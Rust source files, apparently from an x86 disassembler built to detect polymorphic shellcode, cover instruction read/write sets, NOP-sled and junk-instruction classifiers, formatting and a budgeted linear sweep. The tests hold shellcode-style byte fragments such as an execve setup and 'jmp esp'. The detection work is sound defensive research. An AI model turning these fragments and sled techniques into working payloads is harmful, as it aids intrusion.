//! Read/write sets and NOP-likeness — the instruction facts the semantic
//! matcher builds on.
//!
//! Locations are coarse: eight register *files* (writing `AL` counts as
//! writing `EAX`), one `Flags` location, and one `Mem` location. Coarseness
//! is conservative in the right direction for template matching — an
//! intervening instruction is only skippable if it provably does not clobber
//! a bound location, and coarse sets only ever err towards "clobbers".

use crate::insn::{Instruction, Mnemonic};
use crate::operand::Operand;
use crate::reg::Gpr;
use serde::{Deserialize, Serialize};

/// An abstract machine location.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Location {
    /// A general-purpose register file.
    Gpr(Gpr),
    /// The EFLAGS register.
    Flags,
    /// All of memory (coarse).
    Mem,
}

/// A small bitset of [`Location`]s.
///
/// Bits 0–7: the GPR files in encoding order; bit 8: flags; bit 9: memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct LocSet(pub u16);

impl LocSet {
    /// The empty set.
    pub const EMPTY: LocSet = LocSet(0);
    /// Every location.
    pub const ALL: LocSet = LocSet(0x3ff);
    /// Flags only.
    pub const FLAGS: LocSet = LocSet(1 << 8);
    /// Memory only.
    pub const MEM: LocSet = LocSet(1 << 9);

    /// Singleton set for a location.
    pub fn only(loc: Location) -> LocSet {
        let mut s = LocSet::EMPTY;
        s.insert(loc);
        s
    }

    /// Singleton set for a register file.
    pub fn gpr(g: Gpr) -> LocSet {
        LocSet(1 << g.index())
    }

    /// Insert a location.
    pub fn insert(&mut self, loc: Location) {
        self.0 |= match loc {
            Location::Gpr(g) => 1 << g.index(),
            Location::Flags => 1 << 8,
            Location::Mem => 1 << 9,
        };
    }

    /// Set union.
    pub fn union(self, other: LocSet) -> LocSet {
        LocSet(self.0 | other.0)
    }

    /// True if the sets share any location.
    pub fn intersects(self, other: LocSet) -> bool {
        self.0 & other.0 != 0
    }

    /// True if `loc` is a member.
    pub fn contains(self, loc: Location) -> bool {
        self.intersects(LocSet::only(loc))
    }

    /// True if no location is a member.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Iterate over the member locations.
    pub fn iter(self) -> impl Iterator<Item = Location> {
        (0..10u16).filter_map(move |bit| {
            if self.0 & (1 << bit) == 0 {
                None
            } else if bit < 8 {
                Some(Location::Gpr(Gpr::from_index(bit as u8)))
            } else if bit == 8 {
                Some(Location::Flags)
            } else {
                Some(Location::Mem)
            }
        })
    }
}

impl std::ops::BitOr for LocSet {
    type Output = LocSet;
    fn bitor(self, rhs: LocSet) -> LocSet {
        self.union(rhs)
    }
}

/// Locations an operand *reads* when used as a source, including the
/// registers participating in a memory operand's address.
fn src_reads(op: &Operand) -> LocSet {
    match op {
        Operand::Reg(r) => LocSet::gpr(r.gpr),
        Operand::Mem(m) => mem_addr_reads(m) | LocSet::MEM,
        _ => LocSet::EMPTY,
    }
}

fn mem_addr_reads(m: &crate::operand::MemRef) -> LocSet {
    let mut s = LocSet::EMPTY;
    if let Some(b) = m.base {
        s = s | LocSet::gpr(b.gpr);
    }
    if let Some((i, _)) = m.index {
        s = s | LocSet::gpr(i.gpr);
    }
    s
}

/// Locations an operand *writes* when used as a destination.
fn dst_writes(op: &Operand) -> LocSet {
    match op {
        Operand::Reg(r) => LocSet::gpr(r.gpr),
        Operand::Mem(_) => LocSet::MEM,
        _ => LocSet::EMPTY,
    }
}

/// Address registers read when a destination is a memory operand.
fn dst_addr_reads(op: &Operand) -> LocSet {
    match op {
        Operand::Mem(m) => mem_addr_reads(m),
        _ => LocSet::EMPTY,
    }
}

const ESP: LocSet = LocSet(1 << 4);
const EBP: LocSet = LocSet(1 << 5);
const ESI: LocSet = LocSet(1 << 6);
const EDI: LocSet = LocSet(1 << 7);
const EAX: LocSet = LocSet(1 << 0);
const ECX: LocSet = LocSet(1 << 1);
const EDX: LocSet = LocSet(1 << 2);
const EBX: LocSet = LocSet(1 << 3);
const ALL_GPRS: LocSet = LocSet(0xff);

/// The set of locations `insn` reads.
pub fn reads(insn: &Instruction) -> LocSet {
    use Mnemonic::*;
    let op0 = insn.op0();
    let op1 = insn.op1();
    let op2 = insn.operands.get(2);
    match insn.mnemonic {
        // dst is read-modify-write
        Add | Adc | Sub | Sbb | And | Or | Xor | Rol | Ror | Rcl | Rcr | Shl | Shr | Sar | Bts
        | Btr | Btc | Xadd => {
            let mut s = LocSet::EMPTY;
            if let Some(d) = op0 {
                s = s | src_reads(d);
            }
            if let Some(x) = op1 {
                s = s | src_reads(x);
            }
            s | carry_in(insn.mnemonic)
        }
        Inc | Dec | Neg | Not | Bswap => op0.map(src_reads).unwrap_or(LocSet::EMPTY),
        Cmp | Test | Bt => {
            let a = op0.map(src_reads).unwrap_or(LocSet::EMPTY);
            let b = op1.map(src_reads).unwrap_or(LocSet::EMPTY);
            a | b
        }
        Mov | Movzx | Movsx => {
            let src = op1.map(src_reads).unwrap_or(LocSet::EMPTY);
            let addr = op0.map(dst_addr_reads).unwrap_or(LocSet::EMPTY);
            src | addr
        }
        Lea => {
            // LEA reads only the address registers, not memory.
            match op1 {
                Some(Operand::Mem(m)) => mem_addr_reads(m),
                _ => LocSet::EMPTY,
            }
        }
        Xchg | Cmpxchg => {
            let a = op0.map(src_reads).unwrap_or(LocSet::EMPTY);
            let b = op1.map(src_reads).unwrap_or(LocSet::EMPTY);
            let acc = if insn.mnemonic == Cmpxchg {
                EAX
            } else {
                LocSet::EMPTY
            };
            a | b | acc
        }
        Push => op0.map(src_reads).unwrap_or(LocSet::EMPTY) | ESP,
        Pop => ESP | LocSet::MEM | op0.map(dst_addr_reads).unwrap_or(LocSet::EMPTY),
        Pusha => ALL_GPRS,
        Popa => ESP | LocSet::MEM,
        Pushf => ESP | LocSet::FLAGS,
        Popf => ESP | LocSet::MEM,
        Lahf => LocSet::FLAGS,
        Sahf => EAX,
        Xlat => EAX | EBX | LocSet::MEM,
        Imul => {
            // one-operand form reads EAX implicitly
            let mut s = LocSet::EMPTY;
            for op in [op0, op1, op2].into_iter().flatten() {
                s = s | src_reads(op);
            }
            if insn.operands.len() == 1 {
                s = s | EAX;
            }
            s
        }
        Mul | Div | Idiv => op0.map(src_reads).unwrap_or(LocSet::EMPTY) | EAX | EDX,
        Cwde | Cbw => EAX,
        Cdq | Cwd => EAX,
        Jmp | Call => op0.map(src_reads).unwrap_or(LocSet::EMPTY) | ESP,
        JmpFar | CallFar => op0.map(src_reads).unwrap_or(LocSet::EMPTY) | ESP,
        Ret | RetFar | Iret => ESP | LocSet::MEM,
        Jcc(_) => LocSet::FLAGS,
        Setcc(_) => LocSet::FLAGS | op0.map(dst_addr_reads).unwrap_or(LocSet::EMPTY),
        Loop(kind) => {
            let f = if matches!(kind, crate::insn::LoopKind::Plain) {
                LocSet::EMPTY
            } else {
                LocSet::FLAGS
            };
            ECX | f
        }
        Jecxz => ECX,
        Enter => ESP | EBP,
        Leave => EBP | LocSet::MEM,
        Movs => ESI | EDI | LocSet::MEM | rep_reads(insn),
        Cmps => ESI | EDI | LocSet::MEM | rep_reads(insn) | LocSet::FLAGS,
        Stos => EAX | EDI | rep_reads(insn),
        Lods => ESI | LocSet::MEM | rep_reads(insn),
        Scas => EAX | EDI | LocSet::MEM | rep_reads(insn) | LocSet::FLAGS,
        Ins => EDI | EDX | rep_reads(insn),
        Outs => ESI | EDX | LocSet::MEM | rep_reads(insn),
        // A software interrupt is a syscall: it observes the register file.
        Int | Int3 | Into => ALL_GPRS | LocSet::FLAGS | LocSet::MEM,
        In | Out => {
            let mut s = LocSet::EMPTY;
            for op in [op0, op1].into_iter().flatten() {
                s = s | src_reads(op);
            }
            s
        }
        Daa | Das | Aaa | Aas | Salc => EAX | LocSet::FLAGS,
        Aam | Aad => EAX,
        Cmc => LocSet::FLAGS,
        Fpu(_) => {
            op0.map(src_reads).unwrap_or(LocSet::EMPTY)
                | op0.map(dst_addr_reads).unwrap_or(LocSet::EMPTY)
        }
        Nop | Clc | Stc | Cld | Std | Cli | Sti | Hlt | Wait | Cpuid | Rdtsc | Ud2 | Bad => {
            LocSet::EMPTY
        }
        Bound | Arpl | Les | Lds => {
            let a = op0.map(src_reads).unwrap_or(LocSet::EMPTY);
            let b = op1.map(src_reads).unwrap_or(LocSet::EMPTY);
            a | b
        }
    }
}

fn carry_in(m: Mnemonic) -> LocSet {
    match m {
        Mnemonic::Adc | Mnemonic::Sbb | Mnemonic::Rcl | Mnemonic::Rcr => LocSet::FLAGS,
        _ => LocSet::EMPTY,
    }
}

fn rep_reads(insn: &Instruction) -> LocSet {
    if insn.prefixes.rep || insn.prefixes.repne {
        ECX
    } else {
        LocSet::EMPTY
    }
}

/// REP-prefixed string ops also decrement ECX.
fn rep_writes(insn: &Instruction) -> LocSet {
    rep_reads(insn)
}

/// The set of locations `insn` writes.
pub fn writes(insn: &Instruction) -> LocSet {
    use Mnemonic::*;
    let op0 = insn.op0();
    match insn.mnemonic {
        Add | Adc | Sub | Sbb | And | Or | Xor | Inc | Dec | Neg | Xadd => {
            op0.map(dst_writes).unwrap_or(LocSet::EMPTY) | LocSet::FLAGS
        }
        Not | Bswap => op0.map(dst_writes).unwrap_or(LocSet::EMPTY),
        Rol | Ror | Rcl | Rcr | Shl | Shr | Sar | Bts | Btr | Btc => {
            op0.map(dst_writes).unwrap_or(LocSet::EMPTY) | LocSet::FLAGS
        }
        Cmp | Test | Bt | Bound | Arpl => LocSet::FLAGS,
        Mov | Movzx | Movsx | Lea | Setcc(_) => op0.map(dst_writes).unwrap_or(LocSet::EMPTY),
        Xchg => {
            let a = op0.map(dst_writes).unwrap_or(LocSet::EMPTY);
            let b = insn.op1().map(dst_writes).unwrap_or(LocSet::EMPTY);
            a | b
        }
        Cmpxchg => op0.map(dst_writes).unwrap_or(LocSet::EMPTY) | EAX | LocSet::FLAGS,
        Push | Pushf => ESP | LocSet::MEM,
        Pusha => ESP | LocSet::MEM,
        Pop => op0.map(dst_writes).unwrap_or(LocSet::EMPTY) | ESP,
        Popa => ALL_GPRS,
        Popf => ESP | LocSet::FLAGS,
        Lahf => EAX,
        Sahf => LocSet::FLAGS,
        Xlat => EAX,
        Imul => {
            if insn.operands.len() == 1 {
                EAX | EDX | LocSet::FLAGS
            } else {
                op0.map(dst_writes).unwrap_or(LocSet::EMPTY) | LocSet::FLAGS
            }
        }
        Mul | Div | Idiv => EAX | EDX | LocSet::FLAGS,
        Cwde | Cbw => EAX,
        Cdq | Cwd => EDX,
        Call | CallFar => ESP | LocSet::MEM,
        Ret | RetFar | Iret => ESP,
        Jmp | JmpFar | Jcc(_) | Jecxz => LocSet::EMPTY,
        Loop(_) => ECX,
        Enter => ESP | EBP | LocSet::MEM,
        Leave => ESP | EBP,
        Movs => ESI | EDI | LocSet::MEM | rep_writes(insn),
        Cmps => ESI | EDI | LocSet::FLAGS | rep_writes(insn),
        Stos => EDI | LocSet::MEM | rep_writes(insn),
        Lods => EAX | ESI | rep_writes(insn),
        Scas => EDI | LocSet::FLAGS | rep_writes(insn),
        Ins => EDI | LocSet::MEM | rep_writes(insn),
        Outs => ESI | rep_writes(insn),
        // A syscall may write anything.
        Int | Int3 | Into => LocSet::ALL,
        In => op0.map(dst_writes).unwrap_or(LocSet::EMPTY),
        Out => LocSet::EMPTY,
        Daa | Das | Aaa | Aas | Aam | Aad | Salc => EAX | LocSet::FLAGS,
        Clc | Stc | Cmc | Cld | Std | Cli | Sti => LocSet::FLAGS,
        Cpuid => EAX | EBX | ECX | EDX,
        Rdtsc => EAX | EDX,
        Fpu(_) => match op0 {
            Some(Operand::Mem(_)) => LocSet::MEM,
            _ => LocSet::EMPTY,
        },
        Les | Lds => op0.map(dst_writes).unwrap_or(LocSet::EMPTY),
        Nop | Hlt | Wait | Ud2 | Bad => LocSet::EMPTY,
    }
}

/// True if this instruction belongs to the single-byte "NOP-equivalent" set
/// polymorphic sled generators draw from (ADMmutate-style): executing it at
/// sled time cannot fault and does not prevent the payload from running.
pub fn is_nop_like(insn: &Instruction) -> bool {
    use Mnemonic::*;
    if insn.mnemonic == Nop {
        return true;
    }
    if insn.len != 1 {
        return false;
    }
    match insn.mnemonic {
        Inc | Dec | Push | Pop => true, // single-byte reg forms
        Cwde | Cbw | Cdq | Cwd | Clc | Stc | Cmc | Cld | Std => true,
        Daa | Das | Aaa | Aas | Salc | Lahf | Sahf | Wait => true,
        Xchg => true, // 91–97
        _ => false,
    }
}

/// True if the instruction provably has no architectural effect beyond
/// flags — the "effective NOP" forms junk-insertion engines emit
/// (`mov eax,eax`, `xchg ebx,ebx`, `lea esi,[esi]`, `add edi,0`, ...).
pub fn is_effective_nop(insn: &Instruction) -> bool {
    use Mnemonic::*;
    match insn.mnemonic {
        Nop => true,
        Mov | Xchg => match (insn.op0(), insn.op1()) {
            (Some(Operand::Reg(a)), Some(Operand::Reg(b))) => a == b,
            _ => false,
        },
        Lea => match (insn.op0(), insn.op1()) {
            (Some(Operand::Reg(r)), Some(Operand::Mem(m))) => {
                m.disp == 0
                    && m.index.is_none()
                    && m.base.map(|b| b.gpr == r.gpr) == Some(true)
                    && r.width == crate::operand::Width::D
            }
            _ => false,
        },
        Add | Sub | Or | Xor | Shl | Shr | Sar | Rol | Ror => {
            // op r, 0 (xor r,0 keeps value; xor r,r does NOT — it zeroes)
            matches!(insn.op1(), Some(Operand::Imm(0, _)))
        }
        And => matches!(insn.op1(), Some(Operand::Imm(v, _)) if {
            let w = insn.width;
            (*v as u64) & u64::from(w.mask()) == u64::from(w.mask())
        }),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decoder::decode;

    fn d(bytes: &[u8]) -> Instruction {
        decode(bytes, 0)
    }

    #[test]
    fn locset_basics() {
        let mut s = LocSet::EMPTY;
        assert!(s.is_empty());
        s.insert(Location::Gpr(Gpr::Eax));
        s.insert(Location::Mem);
        assert!(s.contains(Location::Gpr(Gpr::Eax)));
        assert!(s.contains(Location::Mem));
        assert!(!s.contains(Location::Flags));
        assert!(s.intersects(LocSet::MEM));
        assert_eq!(s.iter().count(), 2);
        assert_eq!(LocSet::ALL.iter().count(), 10);
    }

    #[test]
    fn mov_reads_source_and_dst_address() {
        // mov [ebx], ecx
        let i = d(&[0x89, 0x0b]);
        let r = reads(&i);
        assert!(r.contains(Location::Gpr(Gpr::Ecx)));
        assert!(r.contains(Location::Gpr(Gpr::Ebx)));
        assert!(!r.contains(Location::Mem)); // store doesn't read memory
        let w = writes(&i);
        assert!(w.contains(Location::Mem));
        assert!(!w.contains(Location::Gpr(Gpr::Ebx)));
    }

    #[test]
    fn alu_dst_is_read_and_written() {
        // xor eax, ebx
        let i = d(&[0x31, 0xd8]);
        assert!(reads(&i).contains(Location::Gpr(Gpr::Eax)));
        assert!(reads(&i).contains(Location::Gpr(Gpr::Ebx)));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Eax)));
        assert!(writes(&i).contains(Location::Flags));
        assert!(!writes(&i).contains(Location::Gpr(Gpr::Ebx)));
    }

    #[test]
    fn push_pop_stack_effects() {
        let push = d(&[0x50]); // push eax
        assert!(reads(&push).contains(Location::Gpr(Gpr::Eax)));
        assert!(reads(&push).contains(Location::Gpr(Gpr::Esp)));
        assert!(writes(&push).contains(Location::Mem));
        assert!(writes(&push).contains(Location::Gpr(Gpr::Esp)));

        let pop = d(&[0x5b]); // pop ebx
        assert!(reads(&pop).contains(Location::Mem));
        assert!(writes(&pop).contains(Location::Gpr(Gpr::Ebx)));
        assert!(writes(&pop).contains(Location::Gpr(Gpr::Esp)));
    }

    #[test]
    fn int_is_a_semantic_barrier() {
        let i = d(&[0xcd, 0x80]);
        assert_eq!(reads(&i).0 & LocSet(0xff).0, 0xff, "int reads all GPRs");
        assert_eq!(writes(&i), LocSet::ALL);
    }

    #[test]
    fn loop_reads_writes_ecx() {
        let i = d(&[0xe2, 0xfe]);
        assert!(reads(&i).contains(Location::Gpr(Gpr::Ecx)));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Ecx)));
        // plain loop ignores flags
        assert!(!reads(&i).contains(Location::Flags));
        // loope reads flags
        let i = d(&[0xe1, 0xfe]);
        assert!(reads(&i).contains(Location::Flags));
    }

    #[test]
    fn string_op_effects() {
        let i = d(&[0xaa]); // stosb
        assert!(reads(&i).contains(Location::Gpr(Gpr::Eax)));
        assert!(reads(&i).contains(Location::Gpr(Gpr::Edi)));
        assert!(writes(&i).contains(Location::Mem));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Edi)));
        assert!(!reads(&i).contains(Location::Gpr(Gpr::Ecx)));
        let i = d(&[0xf3, 0xaa]); // rep stosb
        assert!(reads(&i).contains(Location::Gpr(Gpr::Ecx)));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Ecx)));
    }

    #[test]
    fn mul_div_touch_eax_edx() {
        let i = d(&[0xf7, 0xe3]); // mul ebx
        assert!(reads(&i).contains(Location::Gpr(Gpr::Eax)));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Edx)));
        let i = d(&[0x99]); // cdq
        assert!(reads(&i).contains(Location::Gpr(Gpr::Eax)));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Edx)));
        assert!(!writes(&i).contains(Location::Gpr(Gpr::Eax)));
    }

    #[test]
    fn lea_reads_address_regs_not_memory() {
        // lea eax, [ebx+esi*2+8]
        let i = d(&[0x8d, 0x44, 0x73, 0x08]);
        let r = reads(&i);
        assert!(r.contains(Location::Gpr(Gpr::Ebx)));
        assert!(r.contains(Location::Gpr(Gpr::Esi)));
        assert!(!r.contains(Location::Mem));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Eax)));
        assert!(!writes(&i).contains(Location::Flags));
    }

    #[test]
    fn nop_like_classification() {
        assert!(is_nop_like(&d(&[0x90]))); // nop
        assert!(is_nop_like(&d(&[0x40]))); // inc eax
        assert!(is_nop_like(&d(&[0x97]))); // xchg eax, edi
        assert!(is_nop_like(&d(&[0xf8]))); // clc
        assert!(is_nop_like(&d(&[0x99]))); // cdq
        assert!(!is_nop_like(&d(&[0xc3]))); // ret
        assert!(!is_nop_like(&d(&[0xcd, 0x80]))); // int
        assert!(!is_nop_like(&d(&[0x31, 0xc0]))); // xor eax,eax: 2 bytes
    }

    #[test]
    fn effective_nop_classification() {
        assert!(is_effective_nop(&d(&[0x89, 0xc0]))); // mov eax, eax
        assert!(is_effective_nop(&d(&[0x87, 0xdb]))); // xchg ebx, ebx
        assert!(is_effective_nop(&d(&[0x8d, 0x36]))); // lea esi, [esi]
        assert!(is_effective_nop(&d(&[0x83, 0xc0, 0x00]))); // add eax, 0
        assert!(is_effective_nop(&d(&[0x83, 0xc8, 0x00]))); // or eax, 0
        assert!(is_effective_nop(&d(&[0x83, 0xe0, 0xff]))); // and eax, -1
        assert!(!is_effective_nop(&d(&[0x31, 0xc0]))); // xor eax,eax zeroes
        assert!(!is_effective_nop(&d(&[0x89, 0xc3]))); // mov ebx, eax
        assert!(!is_effective_nop(&d(&[0x83, 0xc0, 0x01]))); // add eax, 1
    }

    #[test]
    fn xchg_writes_both() {
        let i = d(&[0x87, 0xd9]); // xchg ecx, ebx
        assert!(writes(&i).contains(Location::Gpr(Gpr::Ecx)));
        assert!(writes(&i).contains(Location::Gpr(Gpr::Ebx)));
    }

    #[test]
    fn pusha_popa() {
        let i = d(&[0x60]);
        assert_eq!(reads(&i).0 & 0xff, 0xff);
        assert!(writes(&i).contains(Location::Mem));
        let i = d(&[0x61]);
        assert_eq!(writes(&i).0 & 0xff, 0xff);
    }
}
