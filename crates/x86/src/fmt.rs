//! Intel-syntax instruction formatting.

use crate::insn::{Instruction, Mnemonic};
use crate::operand::Width;
use std::fmt;

/// The printable mnemonic, including condition/width suffixes.
pub fn mnemonic_str(insn: &Instruction) -> String {
    use Mnemonic::*;
    let width_suffix = |w: Width| match w {
        Width::B => "b",
        Width::W => "w",
        Width::D => "d",
    };
    match insn.mnemonic {
        Jcc(c) => format!("j{}", c.suffix()),
        Setcc(c) => format!("set{}", c.suffix()),
        Loop(kind) => match kind {
            crate::insn::LoopKind::Ne => "loopne".into(),
            crate::insn::LoopKind::E => "loope".into(),
            crate::insn::LoopKind::Plain => "loop".into(),
        },
        Movs => format!("movs{}", width_suffix(insn.width)),
        Cmps => format!("cmps{}", width_suffix(insn.width)),
        Stos => format!("stos{}", width_suffix(insn.width)),
        Lods => format!("lods{}", width_suffix(insn.width)),
        Scas => format!("scas{}", width_suffix(insn.width)),
        Ins => format!("ins{}", width_suffix(insn.width)),
        Outs => format!("outs{}", width_suffix(insn.width)),
        Fpu(op) => format!("fpu{op:02x}"),
        m => {
            let s = format!("{m:?}").to_lowercase();
            // strip payload formatting if Debug rendered parentheses
            s.split('(').next().unwrap_or(&s).to_string()
        }
    }
}

impl fmt::Display for Instruction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.prefixes.lock {
            f.write_str("lock ")?;
        }
        if self.prefixes.rep {
            f.write_str("rep ")?;
        }
        if self.prefixes.repne {
            f.write_str("repne ")?;
        }
        f.write_str(&mnemonic_str(self))?;
        for (i, op) in self.operands.iter().enumerate() {
            if i == 0 {
                write!(f, " {op}")?;
            } else {
                write!(f, ", {op}")?;
            }
        }
        Ok(())
    }
}

/// Render a disassembly listing (offset, bytes, text) for `buf`.
pub fn listing(buf: &[u8], insns: &[Instruction]) -> String {
    use std::fmt::Write as _;
    let mut out = String::with_capacity(insns.len() * 40);
    for insn in insns {
        let end = insn.end().min(buf.len());
        let bytes: String = buf[insn.offset..end]
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<Vec<_>>()
            .join(" ");
        let _ = writeln!(out, "{:08x}  {:<24} {}", insn.offset, bytes, insn);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decoder::decode;

    fn text(bytes: &[u8]) -> String {
        decode(bytes, 0).to_string()
    }

    #[test]
    fn formats_figure_1a() {
        assert_eq!(text(&[0x80, 0x30, 0x95]), "xor byte ptr [eax], 0x95");
        assert_eq!(text(&[0x40]), "inc eax");
        assert_eq!(text(&[0xe2, 0xfa]), "loop loc_-4");
    }

    #[test]
    fn formats_common_instructions() {
        assert_eq!(text(&[0x31, 0xc0]), "xor eax, eax");
        assert_eq!(text(&[0xb0, 0x0b]), "mov al, 0xb");
        assert_eq!(text(&[0xcd, 0x80]), "int 0x80");
        assert_eq!(text(&[0x74, 0x05]), "je loc_7");
        assert_eq!(text(&[0xf3, 0xa4]), "rep movsb");
        assert_eq!(text(&[0x0f, 0x94, 0xc0]), "sete al");
        assert_eq!(text(&[0xff, 0xe4]), "jmp esp");
        assert_eq!(text(&[0x6a, 0x0b]), "push 0xb");
        assert_eq!(text(&[0x89, 0xe3]), "mov ebx, esp");
    }

    #[test]
    fn listing_includes_bytes_and_text() {
        let code = [0x31, 0xc0, 0x40, 0xc3];
        let insns = crate::stream::linear_sweep(&code);
        let l = listing(&code, &insns);
        assert!(l.contains("31 c0"));
        assert!(l.contains("xor eax, eax"));
        assert!(l.contains("inc eax"));
        assert!(l.contains("ret"));
    }

    #[test]
    fn mnemonic_strings_for_payload_variants() {
        assert_eq!(text(&[0xe0, 0xfe]), "loopne loc_0");
        assert_eq!(text(&[0xe1, 0xfe]), "loope loc_0");
        assert_eq!(text(&[0xa5]), "movsd");
        assert_eq!(text(&[0x66, 0xa5]), "movsw");
        let fpu = decode(&[0xd9, 0xc0], 0);
        assert_eq!(mnemonic_str(&fpu), "fpud9");
    }
}
