//! Linear-sweep disassembly over byte buffers.

use crate::decoder::decode;
use crate::insn::Instruction;

/// Iterator yielding consecutive instructions from `offset`, including
/// [`crate::Mnemonic::Bad`] placeholders (length 1) for undecodable bytes.
pub struct InsnStream<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> InsnStream<'a> {
    /// Start a sweep at the beginning of `buf`.
    pub fn new(buf: &'a [u8]) -> Self {
        InsnStream { buf, pos: 0 }
    }

    /// Start a sweep at `offset`.
    pub fn at(buf: &'a [u8], offset: usize) -> Self {
        InsnStream { buf, pos: offset }
    }

    /// The offset the next instruction would decode at.
    pub fn pos(&self) -> usize {
        self.pos
    }
}

impl Iterator for InsnStream<'_> {
    type Item = Instruction;

    fn next(&mut self) -> Option<Instruction> {
        if self.pos >= self.buf.len() {
            return None;
        }
        let insn = decode(self.buf, self.pos);
        self.pos = insn.end();
        Some(insn)
    }
}

/// Disassemble the whole buffer in one linear sweep.
pub fn linear_sweep(buf: &[u8]) -> Vec<Instruction> {
    InsnStream::new(buf).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::insn::Mnemonic;

    #[test]
    fn sweep_covers_every_byte_exactly_once() {
        let code = [0x31, 0xc0, 0xb0, 0x0b, 0xcd, 0x80, 0xc3];
        let insns = linear_sweep(&code);
        assert_eq!(insns.len(), 4);
        let mut pos = 0;
        for i in &insns {
            assert_eq!(i.offset, pos);
            pos = i.end();
        }
        assert_eq!(pos, code.len());
    }

    #[test]
    fn resynchronises_after_bad_byte() {
        // 0F FF is bad; sweep must continue at the next byte.
        let code = [0x0f, 0xff, 0x90, 0xc3];
        let insns = linear_sweep(&code);
        assert_eq!(insns[0].mnemonic, Mnemonic::Bad);
        assert_eq!(insns[0].len, 1);
        // The 0xff now decodes as the start of a group-5 instruction or Bad,
        // but the sweep always terminates and never skips bytes.
        let total: usize = insns.iter().map(|i| usize::from(i.len)).sum();
        assert_eq!(total, code.len());
    }

    #[test]
    fn sweep_terminates_on_arbitrary_input() {
        // A worst case stress: all 0xFF bytes (invalid group-5 /7).
        let code = [0xffu8; 257];
        let insns = linear_sweep(&code);
        let total: usize = insns.iter().map(|i| usize::from(i.len)).sum();
        assert_eq!(total, code.len());
    }

    #[test]
    fn at_offset_starts_mid_buffer() {
        let code = [0x00, 0x90, 0xc3]; // offset 1: nop; ret
        let mut s = InsnStream::at(&code, 1);
        assert_eq!(s.next().unwrap().mnemonic, Mnemonic::Nop);
        assert_eq!(s.next().unwrap().mnemonic, Mnemonic::Ret);
        assert!(s.next().is_none());
    }
}
