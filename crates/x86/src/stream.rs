//! Linear-sweep disassembly over byte buffers.

use crate::decoder::decode;
use crate::insn::Instruction;

/// Iterator yielding consecutive instructions from `offset`, including
/// [`crate::Mnemonic::Bad`] placeholders (length 1) for undecodable bytes.
pub struct InsnStream<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> InsnStream<'a> {
    /// Start a sweep at the beginning of `buf`.
    pub fn new(buf: &'a [u8]) -> Self {
        InsnStream { buf, pos: 0 }
    }

    /// Start a sweep at `offset`.
    pub fn at(buf: &'a [u8], offset: usize) -> Self {
        InsnStream { buf, pos: offset }
    }

    /// The offset the next instruction would decode at.
    pub fn pos(&self) -> usize {
        self.pos
    }
}

impl Iterator for InsnStream<'_> {
    type Item = Instruction;

    fn next(&mut self) -> Option<Instruction> {
        if self.pos >= self.buf.len() {
            return None;
        }
        let insn = decode(self.buf, self.pos);
        self.pos = insn.end();
        Some(insn)
    }
}

/// Disassemble the whole buffer in one linear sweep.
pub fn linear_sweep(buf: &[u8]) -> Vec<Instruction> {
    InsnStream::new(buf).collect()
}

/// Explicit work limits for a sweep over untrusted bytes. The decoder is
/// total, but a hostile flow can still be enormous; a budget turns "sweep
/// whatever arrived" into a bounded amount of work with an explicit signal
/// when input was left unexamined.
#[derive(Debug, Clone, Copy)]
pub struct SweepBudget {
    /// Maximum instructions to emit.
    pub max_instructions: usize,
    /// Maximum input bytes to consume.
    pub max_bytes: usize,
}

impl Default for SweepBudget {
    fn default() -> Self {
        // Generous for any real exploit frame (paper-scale payloads are
        // a few KiB) while bounding a worst-case flood.
        SweepBudget {
            max_instructions: 1 << 20,
            max_bytes: 1 << 22,
        }
    }
}

/// Result of a budgeted sweep.
#[derive(Debug, Clone)]
pub struct SweepOutcome {
    /// Instructions decoded before the budget (or the buffer) ran out.
    pub instructions: Vec<Instruction>,
    /// True when the budget expired with input still unexamined — the
    /// caller must treat the disassembly as partial, not trust it as a
    /// full picture of the buffer.
    pub exhausted: bool,
}

/// Disassemble at most `budget` worth of `buf` in one linear sweep.
pub fn linear_sweep_budgeted(buf: &[u8], budget: &SweepBudget) -> SweepOutcome {
    let mut stream = InsnStream::new(buf);
    let mut instructions = Vec::new();
    loop {
        if instructions.len() >= budget.max_instructions || stream.pos() >= budget.max_bytes {
            return SweepOutcome {
                instructions,
                exhausted: stream.pos() < buf.len(),
            };
        }
        match stream.next() {
            Some(insn) => instructions.push(insn),
            None => {
                return SweepOutcome {
                    instructions,
                    exhausted: false,
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::insn::Mnemonic;

    #[test]
    fn sweep_covers_every_byte_exactly_once() {
        let code = [0x31, 0xc0, 0xb0, 0x0b, 0xcd, 0x80, 0xc3];
        let insns = linear_sweep(&code);
        assert_eq!(insns.len(), 4);
        let mut pos = 0;
        for i in &insns {
            assert_eq!(i.offset, pos);
            pos = i.end();
        }
        assert_eq!(pos, code.len());
    }

    #[test]
    fn resynchronises_after_bad_byte() {
        // 0F FF is bad; sweep must continue at the next byte.
        let code = [0x0f, 0xff, 0x90, 0xc3];
        let insns = linear_sweep(&code);
        assert_eq!(insns[0].mnemonic, Mnemonic::Bad);
        assert_eq!(insns[0].len, 1);
        // The 0xff now decodes as the start of a group-5 instruction or Bad,
        // but the sweep always terminates and never skips bytes.
        let total: usize = insns.iter().map(|i| usize::from(i.len)).sum();
        assert_eq!(total, code.len());
    }

    #[test]
    fn sweep_terminates_on_arbitrary_input() {
        // A worst case stress: all 0xFF bytes (invalid group-5 /7).
        let code = [0xffu8; 257];
        let insns = linear_sweep(&code);
        let total: usize = insns.iter().map(|i| usize::from(i.len)).sum();
        assert_eq!(total, code.len());
    }

